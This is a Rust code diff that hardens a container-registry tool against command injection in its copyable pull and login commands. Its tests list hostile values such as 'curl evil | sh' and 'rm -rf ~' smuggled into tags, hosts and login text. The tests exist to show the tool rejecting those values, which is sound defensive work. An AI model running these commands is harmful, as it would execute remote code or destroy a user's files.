@@ -37,7 +37,7 @@ impl PullKind {
     }
 }
 
-/// Where the image lives: the host the tag's `path` names, else the profile's registry host.
+/// Where the image lives: the profile's registry host, the organization, repository and tag.
 pub struct ImageRef<'a> {
     pub registry: &'a str,
     pub org: &'a str,
@@ -46,17 +46,20 @@ pub struct ImageRef<'a> {
 }
 
 impl ImageRef<'_> {
-    /// The registry host the service names for this tag, else the profile's.
+    /// The profile's registry host: a server does not choose where the user pulls from.
     fn registry(&self) -> &str {
-        self.tag.hosts.registry.as_deref().unwrap_or(self.registry)
+        self.registry
     }
 
     /// Whether every part is a name the service could have made: the text goes into a shell,
     /// and a server must not be able to put a command there.
     pub fn check(&self) -> Result<(), String> {
+        if !valid_host(self.registry) {
+            return Err(format!("{:?} is not a registry host name", self.registry));
+        }
         validate::namespace_name(self.org)?;
         validate::repository_name(self.repo)?;
-        validate::tag_name(&self.tag.tag)
+        validate::tag_name(self.tag.raw())
     }
 
     /// `<registry>/<org>/<repo>:<tag>`
@@ -66,7 +69,7 @@ impl ImageRef<'_> {
             self.registry(),
             self.org,
             self.repo,
-            self.tag.tag
+            self.tag.raw()
         )
     }
 
@@ -83,7 +86,7 @@ impl ImageRef<'_> {
         })
     }
 
-    /// The address cloud clusters pull from, when the service names its host.
+    /// The address cloud clusters pull from, when the service names one in a private network.
     pub fn internal(&self) -> Option<String> {
         let host = self.tag.hosts.internal.as_deref()?;
         Some(format!(
@@ -114,6 +117,39 @@ impl ImageRef<'_> {
     }
 }
 
+/// A host name or address with an optional port: what may stand before the first `/` of an
+/// image address in a command the user pastes into a shell.
+pub fn valid_host(host: &str) -> bool {
+    !host.is_empty()
+        && host.len() <= 253
+        && host
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b':' | b'[' | b']'))
+}
+
+/// The temporary login command: the user and password of the service's `docker login` text,
+/// each checked to be one plain word, and the profile's registry host. Anything else is
+/// refused: this text is pasted into a shell.
+pub fn login_command(service_text: &str, registry: &str) -> Result<String, String> {
+    let plain = |w: &str| {
+        !w.is_empty()
+            && w.len() <= 4096
+            && w.bytes().all(|b| {
+                b.is_ascii_alphanumeric()
+                    || matches!(b, b'@' | b'.' | b'_' | b'+' | b'/' | b'=' | b':' | b'-')
+            })
+    };
+    let words: Vec<&str> = service_text.split(' ').collect();
+    match words.as_slice() {
+        ["docker", "login", "-u", user, "-p", password]
+            if plain(user) && plain(password) && valid_host(registry) =>
+        {
+            Ok(format!("docker login -u {user} -p {password} {registry}"))
+        }
+        _ => Err("the service's login text is not a plain docker login -u USER -p PASSWORD".into()),
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -130,7 +166,8 @@ mod tests {
     }
 
     #[test]
-    fn commands_for_every_kind() {
+    fn commands_for_every_kind_use_the_profiles_registry() {
+        // The tag's path names another registry: the command still goes to the profile's.
         let t = tag("swr.ap-southeast-3.myhuaweicloud.com/demo/team/web:1.0");
         let r = ImageRef {
             registry: "swr.cn-north-4.myhuaweicloud.com",
@@ -142,15 +179,15 @@ mod tests {
         assert_eq!(
             all,
             [
-                "docker pull swr.ap-southeast-3.myhuaweicloud.com/demo/team/web:1.0",
-                "podman pull swr.ap-southeast-3.myhuaweicloud.com/demo/team/web:1.0",
-                "nerdctl pull swr.ap-southeast-3.myhuaweicloud.com/demo/team/web:1.0",
+                "docker pull swr.cn-north-4.myhuaweicloud.com/demo/team/web:1.0",
+                "podman pull swr.cn-north-4.myhuaweicloud.com/demo/team/web:1.0",
+                "nerdctl pull swr.cn-north-4.myhuaweicloud.com/demo/team/web:1.0",
                 &format!(
-                    "docker pull swr.ap-southeast-3.myhuaweicloud.com/demo/team/web@sha256:{}",
+                    "docker pull swr.cn-north-4.myhuaweicloud.com/demo/team/web@sha256:{}",
                     "ab".repeat(32)
                 ),
                 "docker pull 10.125.0.198:20202/demo/team/web:1.0",
-                "image: swr.ap-southeast-3.myhuaweicloud.com/demo/team/web:1.0",
+                "image: swr.cn-north-4.myhuaweicloud.com/demo/team/web:1.0",
             ]
         );
     }
@@ -185,10 +222,34 @@ mod tests {
         assert!(r(&t).is_ok());
         t.tag = "1.0;curl evil|sh".into();
         assert!(r(&t).unwrap_err().contains("must not contain"));
-        let evil_host = tag("evil.example;rm -rf ~/demo/web:1.0");
+        // An internal address is offered only where it is a private network's.
+        let internal = |address: &str| {
+            TagRow::from(Tag {
+                tag: "1.0".into(),
+                internal_path: address.into(),
+                ..Tag::default()
+            })
+            .hosts
+            .internal
+            .clone()
+        };
         assert_eq!(
-            evil_host.hosts.registry, None,
-            "not a host name: the profile's is used"
+            internal("10.125.0.198:20202/demo/web:1.0").as_deref(),
+            Some("10.125.0.198:20202")
+        );
+        assert_eq!(internal("evil.example:443/demo/web:1.0"), None);
+        assert_eq!(internal("8.8.8.8:5000/demo/web:1.0"), None);
+        assert_eq!(internal("10.0.0.1;rm -rf ~/demo/web:1.0"), None);
+        assert!(
+            ImageRef {
+                registry: "swr.example;rm -rf ~",
+                org: "demo",
+                repo: "web",
+                tag: &t,
+            }
+            .copyable(PullKind::Docker)
+            .is_err(),
+            "a profile's registry is checked too"
         );
         let no_digest = TagRow::from(Tag {
             tag: "1.0".into(),
@@ -203,5 +264,24 @@ mod tests {
         }
         .copyable(PullKind::Digest);
         assert!(by_digest.unwrap_err().contains("no sha256 digest"));
+    }
+
+    #[test]
+    fn login_commands_are_built_from_checked_words_and_the_profiles_registry() {
+        let registry = "swr.cn-north-4.myhuaweicloud.com";
+        assert_eq!(
+            login_command("docker login -u cn-north-4@AK0 -p 0a1b2c", registry).unwrap(),
+            "docker login -u cn-north-4@AK0 -p 0a1b2c swr.cn-north-4.myhuaweicloud.com"
+        );
+        for hostile in [
+            "docker login -u x -p y; rm -rf ~",
+            "docker login -u x -p y\n",
+            "docker login -u x -p \x1b[2Jy",
+            "curl evil | sh",
+            "docker login -u x -p y --password-stdin",
+        ] {
+            assert!(login_command(hostile, registry).is_err(), "{hostile:?}");
+        }
+        assert!(login_command("docker login -u x -p y", "evil host").is_err());
     }
 }
